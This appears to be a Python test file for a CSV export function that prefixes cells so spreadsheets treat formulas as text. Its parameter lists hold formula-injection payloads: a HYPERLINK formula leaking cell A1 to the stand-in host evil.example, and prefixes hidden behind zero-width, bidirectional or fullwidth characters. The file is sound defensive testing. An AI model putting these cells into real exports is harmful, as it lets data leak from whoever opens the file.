"""Files for spreadsheets: what was put in comes out, and nothing of it is worked out."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.console.sheet import FORMULAS, guarded, lines

CELLS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"))


@pytest.mark.parametrize(
    "cell",
    [
        *('=HYPERLINK("http://evil.example/?"&A1)', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "\n=1"),
        *("\ufeff=1", "\u200b=1", "\u202e=1", "＝1", "\x01=1", "\u00a0-1"),  # noqa: RUF001
    ],
)
def test_what_a_spreadsheet_would_work_out_is_text(cell: str) -> None:
    assert guarded(cell) == f"'{cell}"


@pytest.mark.parametrize(
    ("cell", "told"),
    [
        ("u;=1+1", "u;'=1+1"),
        ("u\t@SUM(A1)", "u\t'@SUM(A1)"),
        ('u\r\n"-1', "u\r\n\"'-1"),
        ("u; \u200b＝1;+2", "u; \u200b'＝1;'+2"),  # noqa: RUF001
        ("\t;=1", "'\t;'=1"),
    ],
)
def test_no_part_of_a_cell_is_worked_out_where_the_separator_is_another(cell: str, told: str) -> None:
    assert guarded(cell) == told


@pytest.mark.parametrize(
    "cell", ["", "a;b", "a;1", "151204", "u_8812", "a=b", "it's", "2026-11-27T05:00:00Z", "hubspot.plan"]
)
def test_everything_else_stays_as_it_is(cell: str) -> None:
    assert guarded(cell) == cell


@given(st.lists(st.lists(CELLS, min_size=2, max_size=3), max_size=20))
def test_every_cell_is_read_back_and_none_is_a_formula(rows: list[list[str]]) -> None:
    told = "".join(lines(rows))
    read = list(csv.reader(io.StringIO(told, newline="")))
    assert read == [[guarded(cell) for cell in row] for row in rows]
    assert not any(cell[:1] in FORMULAS for row in read for cell in row if cell)


def test_a_long_file_comes_in_parts() -> None:
    assert len(list(lines([str(number)] for number in range(1_200)))) == 3
